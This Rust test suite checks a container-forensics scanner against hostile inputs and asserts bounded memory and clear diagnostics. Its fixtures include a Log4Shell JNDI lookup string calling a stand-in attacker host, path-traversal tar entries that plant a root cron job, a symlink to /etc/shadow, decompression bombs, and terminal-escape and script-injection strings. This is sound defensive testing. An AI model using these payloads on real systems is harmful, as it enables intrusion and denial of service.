//! The hostile evidence suite: broken, malicious and enormous artifacts, each in a bundle
//! beside a known-bad access log. Every case asserts a clear diagnostic, no panic (exit code
//! 0-3), the access log's Log4Shell hit still found, and peak memory bounded: the binary runs
//! under `ulimit -v` and its peak resident set (`VmHWM`) is read from /proc while it runs.

mod util;

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::Value;

/// The known-bad line put beside every hostile artifact.
const BAD: &[u8] = b"1.2.3.4 - - [10/Dec/2021:10:00:00 +0000] \"GET /?x=${jndi:ldap://evil.example:1389/a} HTTP/1.1\" 200 1 \"-\" \"curl\"\n";

/// Address-space ceiling of every run (glibc arenas and rayon stacks reserve more address
/// space than they touch; the resident bound below is the real one).
const ADDRESS_SPACE_KB: u64 = 8 << 20;

/// What a run gave.
struct Run {
    code: i32,
    stdout: Vec<u8>,
    stderr: String,
    /// Peak resident set, KiB (VmHWM, last seen while the process ran).
    peak_kb: u64,
}

impl Run {
    fn json(&self) -> Value {
        serde_json::from_slice(&self.stdout)
            .unwrap_or_else(|e| panic!("stdout is not JSON ({e}); stderr: {}", self.stderr))
    }
}

/// Run ctriage under the address-space limit, sampling its peak RSS.
fn run_bounded(args: &[&str]) -> Run {
    let mut child = Command::new("sh")
        .arg("-c")
        .arg(format!("ulimit -v {ADDRESS_SPACE_KB}; exec \"$0\" \"$@\""))
        .arg(util::bin())
        .args(args)
        .env("SOURCE_DATE_EPOCH", "1764547200")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run ctriage");
    let pid = child.id();
    let mut out = child.stdout.take().unwrap();
    let mut err = child.stderr.take().unwrap();
    let reader = std::thread::spawn(move || {
        let mut v = vec![];
        std::io::Read::read_to_end(&mut out, &mut v).unwrap();
        v
    });
    let err_reader = std::thread::spawn(move || {
        let mut s = String::new();
        std::io::Read::read_to_string(&mut err, &mut s).unwrap();
        s
    });
    let mut peak_kb = 0;
    let status = loop {
        if let Ok(s) = std::fs::read_to_string(format!("/proc/{pid}/status")) {
            if let Some(kb) = s
                .lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
            {
                peak_kb = peak_kb.max(kb);
            }
        }
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        std::thread::sleep(Duration::from_millis(5));
    };
    Run {
        code: status.code().unwrap_or(-1),
        stdout: reader.join().unwrap(),
        stderr: err_reader.join().unwrap(),
        peak_kb,
    }
}

/// A bundle directory holding the known-bad access log.
fn bundle() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("access.log"), BAD).unwrap();
    dir
}

/// Scan `path` with `extra` flags; assert no panic, exit 0-3, the access log's hit, a
/// diagnostic containing each of `diags`, and peak RSS under `max_mb`. The report.
fn check(path: &Path, extra: &[&str], diags: &[&str], max_mb: u64) -> Value {
    let p = path.to_str().unwrap();
    let mut args = vec!["scan", p, "--format", "json", "--fail-on", "none"];
    args.extend(extra);
    let run = run_bounded(&args);
    assert!(
        (0..=3).contains(&run.code),
        "exit code {} (a crash?) for {p}; stderr:\n{}",
        run.code,
        run.stderr
    );
    assert!(!run.stderr.contains("panicked"), "panic for {p}:\n{}", run.stderr);
    let report = run.json();
    util::validate_against_schema(&report);
    let b = &report["bundles"][0];
    let hit = b["log_hits"].as_array().unwrap().iter().any(|h| {
        h["locator"]["artifact"].as_str().is_some_and(|a| a.ends_with("access.log"))
            && h["rule"] == "log4j.jndi-lookup"
    });
    assert!(hit, "the access log beside the hostile artifact was not analysed ({p})");
    let messages: Vec<String> = b["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["message"].as_str().unwrap().to_string())
        .collect();
    for want in diags {
        assert!(
            messages.iter().any(|m| m.contains(want)),
            "no diagnostic containing {want:?} for {p}; got {messages:#?}"
        );
    }
    let mb = run.peak_kb / 1024;
    eprintln!("hostile {p} {extra:?}: peak RSS {mb} MiB");
    assert!(mb < max_mb, "peak RSS {mb} MiB >= {max_mb} MiB for {p}");
    report
}

fn tar(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, data) in members {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_mtime(1_600_000_000);
        // Names the builder would refuse (`..`, absolute) go into the header raw.
        let raw = name.as_bytes();
        h.as_old_mut().name[..raw.len()].copy_from_slice(raw);
        h.set_cksum();
        b.append(&h, *data).unwrap();
    }
    b.into_inner().unwrap()
}

fn link(kind: tar::EntryType, name: &str, target: &str) -> Vec<u8> {
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(kind);
    h.set_size(0);
    h.set_mode(0o777);
    h.set_path(name).unwrap();
    h.set_link_name(target).unwrap();
    h.set_cksum();
    h.as_bytes().to_vec()
}

/// A layer (whiteout first, so it sniffs as a layer) holding `files`.
fn layer(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut all: Vec<(&str, &[u8])> = vec![("etc/.wh.gone", b"")];
    all.extend_from_slice(files);
    tar(&all)
}

#[test]
fn truncated_and_checksum_broken_tars() {
    let dir = bundle();
    let whole = layer(&[("a.txt", &[b'a'; 5000]), ("b.txt", &[b'b'; 5000])]);
    std::fs::write(dir.path().join("truncated.tar"), &whole[..3000]).unwrap();
    let mut broken = whole.clone();
    broken[512 + 100] ^= 0xff; // inside the second header: its checksum no longer matches
    std::fs::write(dir.path().join("cksum.tar"), &broken).unwrap();
    check(dir.path(), &[], &["truncated", "checksum mismatch"], 300);
}

#[test]
fn path_traversal_and_absolute_names() {
    let dir = bundle();
    let l = layer(&[("../../../etc/cron.d/evil", b"* * * * * root sh\n"), ("/abs/name", b"x")]);
    std::fs::write(dir.path().join("layer.tar"), &l).unwrap();
    // The same names as members of a bundle archive: recorded, never extracted.
    let archive = tar(&[("../../escape.log", BAD), ("/etc/absolute.log", b"x\n"), ("access.log", BAD)]);
    let arch_path = dir.path().join("bundle.tar");
    std::fs::write(&arch_path, &archive).unwrap();
    let r = check(dir.path(), &[], &[], 300);
    let findings = r["bundles"][0]["findings"].to_string();
    assert!(findings.contains("file.path-traversal"), "traversal in a layer is a finding");
    let sub = tempfile::tempdir().unwrap();
    let only = sub.path().join("b.tar");
    std::fs::write(&only, &archive).unwrap();
    check(&only, &[], &["path traversal"], 300);
    assert!(!sub.path().join("../escape.log").exists() && !Path::new("/etc/absolute.log").exists());
}

#[test]
fn symlink_and_hard_link_loops() {
    let dir = bundle();
    // Inside a docker save: a layer.tar that is a link to itself, through another.
    let mut save = link(tar::EntryType::Symlink, "a/layer.tar", "../b/layer.tar");
    save.extend(link(tar::EntryType::Symlink, "b/layer.tar", "../a/layer.tar"));
    save.extend(link(tar::EntryType::Link, "c/layer.tar", "c/layer.tar"));
    let manifest = br#"[{"Config":"cfg.json","RepoTags":["loop:1"],"Layers":["a/layer.tar","c/layer.tar"]}]"#;
    let cfg = br#"{"architecture":"amd64","os":"linux","rootfs":{"type":"layers","diff_ids":["sha256:00","sha256:01"]}}"#;
    let rest = tar(&[("manifest.json", manifest), ("cfg.json", cfg)]);
    save.extend(rest);
    std::fs::write(dir.path().join("loop.tar"), &save).unwrap();
    // Inside one layer: `a` <-> `b` symlinks, a hard link to itself, a whiteout and a file
    // through the cycle.
    let mut l = link(tar::EntryType::Symlink, "a", "b");
    l.extend(link(tar::EntryType::Symlink, "b", "a"));
    l.extend(link(tar::EntryType::Link, "h", "h"));
    l.extend(layer(&[("a/.wh.x", b""), ("a/f", b"y")]));
    std::fs::write(dir.path().join("cycle-layer.tar"), &l).unwrap();
    // In the bundle directory itself: a symlink loop and a link out of the bundle.
    std::os::unix::fs::symlink("loop2", dir.path().join("loop1")).unwrap();
    std::os::unix::fs::symlink("loop1", dir.path().join("loop2")).unwrap();
    std::os::unix::fs::symlink("/etc/shadow", dir.path().join("out")).unwrap();
    let r = check(dir.path(), &[], &["too many link hops", "hard link `h` -> `h`"], 300);
    let text = r["bundles"][0]["artifacts"].to_string();
    assert!(text.contains("symbolic link to loop2 (not followed)"), "links are recorded, never followed");
}

#[test]
fn huge_declared_sizes() {
    let dir = bundle();
    let mut h = tar::Header::new_gnu();
    h.set_path("big.bin").unwrap();
    h.set_size(1 << 40); // 1 TiB declared, nothing behind it
    h.set_mode(0o644);
    h.set_cksum();
    let mut l = layer(&[]);
    l.truncate(l.len() - 1024); // drop the end marker
    l.extend(h.as_bytes());
    l.extend([0u8; 4096]);
    std::fs::write(dir.path().join("huge.tar"), &l).unwrap();
    check(dir.path(), &[], &["1099511627776"], 300);
}

/// A layer holding one file of `mib` MiB of zeros, streamed into `enc`.
fn zero_layer(mut enc: impl Write, mib: u64) {
    let mut h = tar::Header::new_gnu();
    h.set_path("etc/.wh.gone").unwrap();
    h.set_size(0);
    h.set_cksum();
    enc.write_all(h.as_bytes()).unwrap();
    let mut h = tar::Header::new_gnu();
    h.set_path("zeros.bin").unwrap();
    h.set_size(mib << 20);
    h.set_mode(0o644);
    h.set_cksum();
    enc.write_all(h.as_bytes()).unwrap();
    let chunk = vec![0u8; 1 << 20];
    for _ in 0..mib {
        enc.write_all(&chunk).unwrap();
    }
    enc.write_all(&[0u8; 1024]).unwrap();
}

#[test]
fn gzip_bomb_stops_at_the_layer_limit() {
    let dir = bundle();
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    zero_layer(&mut e, 10);
    let bomb = e.finish().unwrap();
    assert!(bomb.len() < 64 << 10, "10 MiB compresses to {} bytes", bomb.len());
    std::fs::write(dir.path().join("bomb.tar.gz"), &bomb).unwrap();
    check(dir.path(), &["--max-layer-bytes", "1M"], &["limit --max-layer-bytes"], 300);
    // The bundle limit counts every layer together.
    check(dir.path(), &["--max-bundle-bytes", "2M"], &["limit --max-bundle-bytes"], 300);
    // At the defaults it is read whole (10 MiB is no bomb).
    check(dir.path(), &[], &[], 300);
}

#[test]
fn zstd_bomb_at_the_defaults_keeps_memory_flat() {
    let dir = bundle();
    let mut e = zstd::stream::write::Encoder::new(Vec::new(), 3).unwrap();
    zero_layer(&mut e, 2048);
    let bomb = e.finish().unwrap();
    assert!(bomb.len() < 1 << 20, "2 GiB compresses to {} bytes", bomb.len());
    std::fs::write(dir.path().join("bomb.tar.zst"), &bomb).unwrap();
    // The ratio guard stops it at 1 GiB decoded (bytes streamed, never held).
    check(dir.path(), &[], &["decompression bomb"], 300);
}

#[test]
fn deeply_nested_json() {
    let dir = bundle();
    let deep = format!(
        r#"[{{"Id":"abc","Name":"/x","State":{{"Status":"running"}},"HostConfig":{{}},"Config":{}{}}}]"#,
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    std::fs::write(dir.path().join("inspect.json"), deep).unwrap();
    check(dir.path(), &[], &["the JSON depth limit"], 300);
}

#[test]
fn a_100_mb_single_log_line() {
    let dir = bundle();
    let mut f = std::fs::File::create(dir.path().join("app.log")).unwrap();
    let half = vec![b'A'; 50 << 20];
    f.write_all(&half).unwrap();
    f.write_all(b" ${jndi:ldap://long.example/x} ").unwrap();
    f.write_all(&half).unwrap();
    f.write_all(b"\n").unwrap();
    drop(f);
    let r = check(dir.path(), &[], &["limit --max-line"], 300);
    let hits = r["bundles"][0]["log_hits"].to_string();
    assert!(hits.contains("long.example"), "the payload in the long line is found");
}

#[test]
fn nul_filled_random_and_invalid_utf8() {
    let dir = bundle();
    std::fs::write(dir.path().join("zeros.bin"), vec![0u8; 10 << 20]).unwrap();
    // xorshift noise: random-looking, but the same bytes every run.
    let mut x = 0x9e3779b97f4a7c15u64;
    let noise: Vec<u8> = (0..10 << 20)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect();
    std::fs::write(dir.path().join("random.bin"), noise).unwrap();
    use std::os::unix::ffi::OsStrExt;
    let bad_name = std::ffi::OsStr::from_bytes(b"bad-\xff\xfe-name.log");
    let mut log = b"\xff\xfe\xc3\x28 GET /?${jndi:ldap://utf8.example/a} \xed\xa0\x80\n".to_vec();
    log.extend(BAD);
    std::fs::write(dir.path().join(bad_name), log).unwrap();
    let r = check(dir.path(), &[], &["not recognised"], 300);
    assert!(r["bundles"][0]["log_hits"].to_string().contains("utf8.example"));
}

#[test]
fn terminal_and_html_injection_is_escaped() {
    let dir = bundle();
    let evil = "evil-\u{1b}[31mred\u{1b}]52;c;cHduZWQ=\u{7}-\u{202e}gpj.exe-<script>alert(1)</script>";
    let line = format!(
        "1.2.3.4 - - [10/Dec/2021:10:00:00 +0000] \"GET /{evil}?x=${{jndi:ldap://inj.example/a}} HTTP/1.1\" 200 1\n"
    );
    std::fs::write(dir.path().join(format!("{}.log", evil.replace('/', "_"))), &line).unwrap();
    check(dir.path(), &[], &[], 300);
    let p = dir.path().to_str().unwrap();
    for args in [vec!["scan", p, "-v", "--color", "never"], vec!["logs", p]] {
        let out = util::run(&args);
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.contains("inj.example"), "the hit is in the text report: {args:?}");
        assert!(!out.stdout.contains(&0x1b) && !out.stdout.contains(&0x07), "raw ESC/BEL in text output");
        assert!(!text.contains('\u{202e}'), "raw bidi override in text output");
        assert!(!out.stderr.contains(&0x1b), "raw ESC on stderr");
    }
    let out = util::run(&["scan", p, "--format", "html"]);
    let html = String::from_utf8_lossy(&out.stdout);
    assert!(!html.contains("<script>alert"), "unescaped <script> in HTML");
    assert!(!out.stdout.contains(&0x1b));
}

#[test]
fn a_bundle_that_is_a_fifo() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("bundle.fifo");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    // A writer that sends the known-bad log: read once, spooled, analysed.
    let f = fifo.clone();
    let writer = std::thread::spawn(move || std::fs::write(f, BAD));
    let run = run_bounded(&["scan", fifo.to_str().unwrap(), "--format", "json"]);
    writer.join().unwrap().unwrap();
    assert!((0..=3).contains(&run.code), "{}", run.stderr);
    let r = run.json();
    assert!(r["bundles"][0]["log_hits"].to_string().contains("evil.example"));
    assert!(r["bundles"][0].to_string().contains("a stream (FIFO"));
    // An endless writer: spooled up to --max-bundle-bytes, then a diagnostic.
    let endless = Command::new("sh")
        .arg("-c")
        .arg("while :; do cat \"$0\"; done > \"$1\" 2>/dev/null")
        .arg(dir.path().join("line"))
        .arg(&fifo)
        .spawn()
        .unwrap();
    std::fs::write(dir.path().join("line"), BAD).unwrap();
    let run = run_bounded(&["scan", fifo.to_str().unwrap(), "--format", "json", "--max-bundle-bytes", "1M"]);
    let mut endless = endless;
    let _ = endless.kill();
    let _ = endless.wait();
    assert!((0..=3).contains(&run.code), "{}", run.stderr);
    let r = run.json();
    assert!(r["bundles"][0]["diagnostics"].to_string().contains("--max-bundle-bytes"));
    assert!(r["bundles"][0]["log_hits"].to_string().contains("evil.example"));
}

/// Files in the big data-root case: CTRIAGE_HOSTILE_FILES overrides (README: measured).
fn many_files() -> usize {
    std::env::var("CTRIAGE_HOSTILE_FILES").ok().and_then(|v| v.parse().ok()).unwrap_or(200_000)
}

fn data_root_with_files(n: usize) -> tempfile::TempDir {
    let dir = bundle();
    let id = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let c = dir.path().join("var/lib/docker/containers").join(id);
    std::fs::create_dir_all(&c).unwrap();
    std::fs::write(c.join("config.v2.json"), format!(r#"{{"ID":"{id}","Name":"/x","State":{{}}}}"#)).unwrap();
    let spam: PathBuf = dir.path().join("var/lib/docker/spam");
    for d in 0..n.div_ceil(1000) {
        let sub = spam.join(format!("{d:04}"));
        std::fs::create_dir_all(&sub).unwrap();
        for i in 0..1000.min(n - d * 1000) {
            std::fs::File::create(sub.join(format!("{i:04}"))).unwrap();
        }
    }
    dir
}

#[test]
fn a_data_root_with_many_empty_files() {
    let n = many_files();
    let dir = data_root_with_files(n);
    let started = std::time::Instant::now();
    check(dir.path(), &[], &[], 1024);
    eprintln!("hostile: data root with {n} empty files scanned in {:?}", started.elapsed());
    // Lowered, the limit stops the listing with a diagnostic; the log is still analysed
    // (`access.log` sorts before `var/`).
    check(dir.path(), &["--max-root-files", "1000"], &["limit --max-root-files"], 300);
}

#[test]
fn entries_per_archive_limit() {
    let dir = bundle();
    let names: Vec<String> = (0..50).map(|i| format!("f{i}")).collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"x"[..])).collect();
    std::fs::write(dir.path().join("layer.tar"), layer(&files)).unwrap();
    check(
        dir.path(),
        &["--max-entries", "10"],
        &["the tar has more than 10 members (limit --max-entries)"],
        300,
    );
    // A docker save with 50 members beside its manifest: its index stops at the limit.
    let manifest: &[u8] = br#"[{"Config":"c.json","RepoTags":["many:1"],"Layers":[]}]"#;
    let save: Vec<(&str, &[u8])> =
        [("manifest.json", manifest), ("c.json", b"{}")].into_iter().chain(files.iter().copied()).collect();
    let img = tempfile::tempdir().unwrap();
    std::fs::write(img.path().join("access.log"), BAD).unwrap();
    std::fs::write(img.path().join("image.tar"), tar(&save)).unwrap();
    check(img.path(), &["--max-entries", "10"], &["more than 10 members (limit --max-entries)"], 300);
    let many: Vec<(&str, &[u8])> =
        std::iter::once(("access.log", BAD)).chain(files.iter().copied()).collect();
    let sub = tempfile::tempdir().unwrap();
    let arch = sub.path().join("bundle.tar");
    std::fs::write(&arch, tar(&many)).unwrap();
    check(&arch, &["--max-entries", "10"], &["limit --max-entries"], 300);
}

#[test]
fn hits_per_rule_are_capped_counts_exact() {
    let dir = bundle();
    let mut log = Vec::new();
    for _ in 0..500 {
        log.extend(BAD);
    }
    std::fs::write(dir.path().join("access.log"), log).unwrap();
    let r = check(dir.path(), &["--max-hits", "5"], &["limit --max-hits"], 300);
    let b = &r["bundles"][0];
    let kept = b["log_hits"].as_array().unwrap().iter().filter(|h| h["rule"] == "log4j.jndi-lookup").count();
    assert_eq!(kept, 5);
    let scanned = &b["logs_scanned"].as_array().unwrap()[0];
    assert!(scanned["hits"].as_u64().unwrap() >= 500, "counts stay exact: {scanned}");
    assert_eq!(r["run"]["options"]["max_hits"], "5");
}

/// A libscap block: type, total length, body, total length.
fn scap_block(kind: u32, body: &[u8]) -> Vec<u8> {
    let len = (body.len() + 12) as u32;
    let mut v = kind.to_le_bytes().to_vec();
    v.extend(len.to_le_bytes());
    v.extend(body);
    v.extend(len.to_le_bytes());
    v
}

fn scap_header() -> Vec<u8> {
    let mut b = 0x1A2B_3C4Du32.to_le_bytes().to_vec();
    b.extend([1, 0, 2, 0]);
    b.extend(u64::MAX.to_le_bytes());
    scap_block(0x0A0D_0D0A, &b)
}

#[test]
fn scap_lying_block_length_and_an_open_flood() {
    let dir = bundle();
    // A block that says 60 MiB in a 1 MiB file.
    let mut lying = scap_header();
    lying.extend(0x216u32.to_le_bytes());
    lying.extend((60u32 << 20).to_le_bytes());
    lying.extend(vec![0u8; 1 << 20]);
    std::fs::write(dir.path().join("lying.scap"), &lying).unwrap();
    // 400,000 opens of distinct files by 5,000 processes, gzip: listed up to the caps.
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(&scap_header()).unwrap();
    for i in 0..400_000u64 {
        let path = format!("/data/f{i}\0");
        let params: [&[u8]; 4] =
            [&3i64.to_le_bytes(), &(-100i64).to_le_bytes(), path.as_bytes(), &1u32.to_le_bytes()];
        let len = 26 + 2 * params.len() + params.iter().map(|p| p.len()).sum::<usize>();
        let mut b = vec![0u8, 0];
        b.extend(i.to_le_bytes());
        b.extend((1000 + i % 5000).to_le_bytes());
        b.extend((len as u32).to_le_bytes());
        b.extend(307u16.to_le_bytes());
        b.extend((params.len() as u32).to_le_bytes());
        for p in params {
            b.extend((p.len() as u16).to_le_bytes());
        }
        for p in params {
            b.extend(p);
        }
        e.write_all(&scap_block(0x216, &b)).unwrap();
    }
    std::fs::write(dir.path().join("flood.scap.gz"), e.finish().unwrap()).unwrap();
    let report = check(
        dir.path(),
        &[],
        &["declares 62914560 bytes, the file ends after", "350000 file opens and writes were not listed"],
        300,
    );
    let timeline = report["bundles"][0]["timeline"].as_array().unwrap();
    assert!(timeline.len() <= 25_000, "{} timeline events", timeline.len());
}
